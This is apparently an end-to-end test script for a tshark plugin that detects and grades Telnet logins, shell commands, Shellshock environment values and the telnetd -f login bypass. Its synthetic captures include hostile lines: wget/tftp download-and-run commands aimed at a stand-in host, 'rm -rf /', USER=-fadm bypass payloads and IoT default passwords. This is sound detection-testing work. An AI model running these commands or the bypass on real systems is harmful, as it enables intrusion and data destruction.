#!/bin/bash
# e2e_telnet.sh - Telnet logins, graded command lines and environment
# Shellshock through the real tshark and the built plugin.
source "$(dirname "$0")/lib.sh"
hs_setup
hs_require_plugin shellshock login

hs_gencap telnet <"$(dirname "$0")/captures/telnet.gcs"

F=(login.user login.password shellshock.grade shellshock.vector shellshock.command
    shellshock.url shellshock.host shellshock.cve login.bypass login.grade)
hs_table telnet "${F[@]}"
A='^'

hs_eq "silent: user" "$(hs_get telnet m_user login.user)" "root"
hs_eq "silent: no password field on the user line" "$(hs_get telnet m_user login.password)" ""
hs_eq "silent: password" "$(hs_get telnet m_pass login.password)" "xc3511"
hs_eq "silent: enable is unknown, yellow" "$(hs_get telnet m_enable shellshock.grade)" "2"
hs_eq "silent: vector" "$(hs_get telnet m_enable shellshock.vector)" "telnet.command"
hs_eq "silent: sh without arguments is yellow" "$(hs_get telnet m_sh shellshock.grade)" "2"
hs_eq "silent: busybox X becomes X" "$(hs_get telnet m_busybox shellshock.command)" "ECCHI"
hs_eq "silent: wget line is red" "$(hs_get telnet m_wget shellshock.grade)" "3"
hs_eq "silent: wget commands" "$(hs_get telnet m_wget shellshock.command)" "cd${A}wget${A}chmod${A}sh"
hs_eq "silent: wget url" "$(hs_get telnet m_wget shellshock.url)" "http://198.51.100.9/bins.sh"
hs_eq "silent: tftp url" "$(hs_get telnet m_tftp shellshock.url)" "tftp://198.51.100.9/x86"
hs_eq "silent: tftp host" "$(hs_get telnet m_tftp shellshock.host)" "198.51.100.9"
hs_eq "silent: echo to a file is green" "$(hs_get telnet m_echo shellshock.grade)" "1"
hs_eq "silent: blank line gets nothing" "$(hs_get telnet m_blank shellshock.grade)" ""
hs_eq "silent: no CVE on plain commands" "$(hs_get telnet m_wget shellshock.cve)" ""

hs_eq "banner: nothing" "$(hs_get telnet i_banner login.user)" ""
hs_eq "prompts: user" "$(hs_get telnet i_user login.user)" "admin"
hs_eq "prompts: password" "$(hs_get telnet i_pass login.password)" "admin"
hs_eq "prompts: second user after Login incorrect" "$(hs_get telnet i_user2 login.user)" "support"
hs_eq "prompts: second password" "$(hs_get telnet i_pass2 login.password)" "support"
hs_eq "prompts: two command lines in one segment" "$(hs_get telnet i_two shellshock.grade)" "1${A}2"
hs_eq "prompts: their commands" "$(hs_get telnet i_two shellshock.command)" "uname${A}ping"
hs_eq "prompts: ping host" "$(hs_get telnet i_two shellshock.host)" "198.51.100.7"

hs_eq "char-at-a-time: user with DEL applied" "$(hs_get telnet c_user login.user)" "root"
hs_eq "char-at-a-time: password" "$(hs_get telnet c_pass login.password)" "123456"
hs_eq "char-at-a-time: bash -c unwrapped" "$(hs_get telnet c_cmd shellshock.command)" "cat"

hs_eq "environ: vector" "$(hs_get telnet env shellshock.vector)" "telnet.environ"
hs_eq "environ: CVE" "$(hs_get telnet env shellshock.cve)" "CVE-2014-6271"
hs_eq "environ: red" "$(hs_get telnet env shellshock.grade)" "3"
hs_eq "environ: url" "$(hs_get telnet env shellshock.url)" "http://198.51.100.9/e.sh"
hs_eq "terminal-type: CVE-2014-6278" "$(hs_get telnet ttype shellshock.cve)" "CVE-2014-6271${A}CVE-2014-6278"
hs_eq "environ: login still follows" "$(hs_get telnet env_user login.user)" "guest"

hs_eq "hostile: endless line capped, still a user name" \
    "$(hs_get telnet h_long_end login.user | wc -c)" "$((8192 + 1))"
hs_eq "hostile: expert info for the dropped part" \
    "$(hs_count telnet '_ws.expert.message contains "longer than the limit"')" "1"
hs_eq "hostile: SB without SE reported" \
    "$(hs_count telnet '_ws.expert.message contains "without IAC SE"')" "1"
hs_eq "hostile: NULs trimmed" "$(hs_get telnet h_nul login.password)" "password"

# The telnetd -f login bypass (issue 14, point 4): login.bypass, graded red,
# a Security warning; no shellshock.* (it is no Shellshock).
SECURITY=0x0a000000 WARN=0x00600000
hs_eq "bypass: NEW-ENVIRON USER=-fadm" "$(hs_get telnet bypass login.bypass)" "USER=-fadm"
hs_eq "bypass: graded red" "$(hs_get telnet bypass login.grade)" "3"
hs_eq "bypass: no Shellshock fields" \
    "$(hs_get telnet bypass shellshock.grade)$(hs_get telnet bypass shellshock.vector)" ""
hs_eq "bypass: no user or password" \
    "$(hs_get telnet bypass login.user)$(hs_get telnet bypass login.password)" ""
hs_eq "bypass: expert info" "$(hs_count telnet "frame.number == $(hs_frame telnet bypass) && \
    _ws.expert.message == \"Telnet login bypass: USER=-fadm makes login(1) read an option (telnetd -f)\"")" "1"
hs_eq "bypass: a Security warning" "$(hs_count telnet \
    "login.bypass_attempt && _ws.expert.group == $SECURITY && _ws.expert.severity == $WARN")" "2"
hs_eq "bypass: OLD-ENVIRON, swapped markers, -f root" \
    "$(hs_get telnet bypass_old login.bypass)" "USER=-f root"
hs_eq "bypass: OLD-ENVIRON graded red" "$(hs_get telnet bypass_old login.grade)" "3"
hs_eq "no bypass: USER=root, LOGNAME=-fadm" \
    "$(hs_get telnet no_bypass login.bypass)$(hs_get telnet no_bypass login.grade)" ""
hs_eq "filter login.grade == red" "$(hs_count telnet 'login.grade == red')" "2"
hs_eq "filter login.bypass" "$(hs_count telnet 'login.bypass')" "2"
hs_eq "info column" "$(hs_tshark -r "$HS_TMP/telnet.pcap" -Y "frame.number == $(hs_frame telnet bypass)" |
    grep -c '\[login bypass: USER=-fadm\]')" "1"

hs_eq "filter login.user == root" "$(hs_count telnet 'login.user == "root"')" "2"
hs_eq "filter red telnet commands" \
    "$(hs_count telnet 'shellshock.vector == "telnet.command" && shellshock.grade == red')" "2"

# Undecoded, not Malformed: a cap of our own analysis is no broken packet (issue 11, point 10).
UNDECODED=0x05000000 MALFORMED=0x07000000
hs_eq "severity: a line over the cap is Undecoded" \
    "$(hs_count telnet "_ws.expert.message contains \"longer than the limit\" && _ws.expert.group == $UNDECODED")" "1"
hs_eq "severity: nothing of ours is Malformed" \
    "$(hs_count telnet "_ws.expert.group == $MALFORMED")" "0"

# Telnet as real captures show it (issue 11, point 4): a terminal's control
# keys, binary streams that are not Telnet, and the caps on what is kept.
# Deterministic "random" bytes (the ZX81 generator), as \xHH escapes.
random_bytes() {
    awk -v n="$1" 'BEGIN { s = 5; for (i = 0; i < n; i++) { s = (s * 75 + 74) % 65537; printf "\\x%02x", s % 256 } }'
}
R600=$(random_bytes 600)
R300=$(random_bytes 300)
hs_gencap keys <<EOF
time 1411862400
# A character-mode client (the server echoes): ^C then exit; ^U, ^W, an arrow key.
tcp 175.16.199.2:42000 192.0.2.23:23
s "login: "
c "root\r\n" @k_user
s "Password: "
c "admin\r\n"
s "\r\n# "
c "l"
c "s"
c "\x03" @k_ctrlc
s "^C\r\n# "
c "e"
c "x"
c "i"
c "t"
c "\r\0" @k_exit
s "\r\n# "
c "rm -rf /\x15uname -a\r\n" @k_kill
c "ping -c 1 10.0.0.1\x17198.51.100.7\r\n" @k_word
c "\x1b[Aid\r\n" @k_arrow
close
# Random bytes to TCP/23 with a download command among them: not Telnet.
tcp 89.160.20.113:42001 192.0.2.23:23
c "$R600" "\r\n; wget http://198.51.100.9/bot.sh; sh bot.sh\r\n" @b_random
c "root\r\n" @b_later
close
# RTMP to TCP/23 (C0, C1, then a connect command naming a URL); a silent server.
tcp 81.2.69.161:42002 192.0.2.23:23
c "\x03" "\x00"*8 "$R300" @r_c1
c "\x03\x00\x00\x00\x00\x00\x6b\x14\x00\x00\x00\x00\x02\x00\x07connect\x00\x3f\xf0\x00\x00\x00\x00\x00\x00\x03\x00\x03app\x02\x00\x04live\x00\x05tcUrl\x02\x00\x1ertmp://198.51.100.9/live; wget\r\n\x00\x00\x09" @r_amf
close
# A flood of one-letter lines after a login: the caps per frame and per conversation.
tcp 67.43.156.2:42003 192.0.2.23:23
c "root\r\n"
c "xc3511\r\n"
c "a\r\n"*100 @f_frame
c "a\r\n"*40000 @f_conv
c "a\r\n"*100 "wget http://198.51.100.9/x\r\n" "id\r\n" @f_red
close
EOF
hs_table keys "${F[@]}" _ws.expert.message
hs_eq "^C: the line typed before it is discarded" "$(hs_get keys k_ctrlc shellshock.command)" ""
hs_eq "^C then exit: the command is exit" "$(hs_get keys k_exit shellshock.command)" "exit"
hs_eq "^U kills the line" "$(hs_get keys k_kill shellshock.command)" "uname"
hs_eq "^W erases a word" "$(hs_get keys k_word shellshock.host)" "198.51.100.7"
hs_eq "arrow key dropped" "$(hs_get keys k_arrow shellshock.command)" "id"
hs_eq "prompts still read: user" "$(hs_get keys k_user login.user)" "root"
hs_eq "random bytes: no login, command or URL" \
    "$(hs_count keys 'tcp.srcport == 42001 && (login || shellshock)')" "0"
hs_eq "RTMP: no login, command or URL" \
    "$(hs_count keys 'tcp.srcport == 42002 && (login || shellshock)')" "0"
hs_eq "not text: expert info once per conversation, Undecoded" \
    "$(hs_count keys "_ws.expert.message contains \"not text\" && _ws.expert.group == $UNDECODED")" "2"
hs_eq "cap per frame: 64 lines kept" \
    "$(hs_get keys f_frame shellshock.grade | tr '^' '\n' | grep -c .)" "64"
hs_eq "cap per frame: the rest counted" \
    "$(hs_get keys f_frame _ws.expert.message | grep -o '36 Telnet lines[^;]*; highest grade among them: yellow')" \
    "36 Telnet lines (logins, commands, environment values) not kept (limit of 64 per frame); highest grade among them: yellow"
# The conversation's graded lines from f_frame on (its user and password
# have a budget of their own), up to f_conv: all yellow.
hs_eq "cap per conversation: 4096 yellow items kept" \
    "$(awk -F'\t' -v from="$(hs_frame keys f_frame)" -v to="$(hs_frame keys f_conv)" \
        'NR > 1 && $1 >= from && $1 <= to { n += ($4 == "" ? 0 : split($4, a, "^")) } END { print n }' \
        "$HS_TMP/keys.tsv")" "4096"
# 64 yellow items in f_frame and in each of f_conv's first 63 segments: the
# cap is reached in the 63rd (whose 65th line meets both caps), and every
# later segment says so too.
hs_eq "cap per conversation: expert info, Undecoded" \
    "$(hs_count keys "frame.number <= $(hs_frame keys f_conv) && _ws.expert.message contains \"4096 per conversation\" && _ws.expert.group == $UNDECODED")" \
    "$(($(hs_frame keys f_conv) - $(hs_frame keys f_frame) - 62))"
# Harmless lines past both caps do not push red and green ones out: each
# grade has its own budget.
hs_eq "caps per grade: a red line after a flood of yellow ones is kept" \
    "$(hs_get keys f_red shellshock.url)" "http://198.51.100.9/x"
hs_eq "caps per grade: and a green one" \
    "$(hs_get keys f_red shellshock.grade | tr '^' '\n' | sort -u | tr '\n' ' ')" "1 3 "

# Two-pass dissection (as the GUI redissects) gives the same fields.
hs_tshark -2 -r "$HS_TMP/telnet.pcap" -T fields -E "aggregator=$HS_AGG" -E occurrence=a \
    -e frame.number $(printf -- '-e %s ' "${F[@]}") >"$HS_TMP/two-pass.tsv"
tail -n +2 "$HS_TMP/telnet.tsv" >"$HS_TMP/one-pass.tsv"
hs_eq "two-pass equals one-pass" "$(diff "$HS_TMP/one-pass.tsv" "$HS_TMP/two-pass.tsv" | head -12)" ""
hs_tshark -2 -r "$HS_TMP/keys.pcap" -T fields -E "aggregator=$HS_AGG" -E occurrence=a \
    -e frame.number $(printf -- '-e %s ' "${F[@]}" _ws.expert.message) >"$HS_TMP/keys-two.tsv"
hs_eq "two-pass equals one-pass: keys, binary streams, caps" \
    "$(tail -n +2 "$HS_TMP/keys.tsv" | diff - "$HS_TMP/keys-two.tsv" | head -12)" ""

hs_done
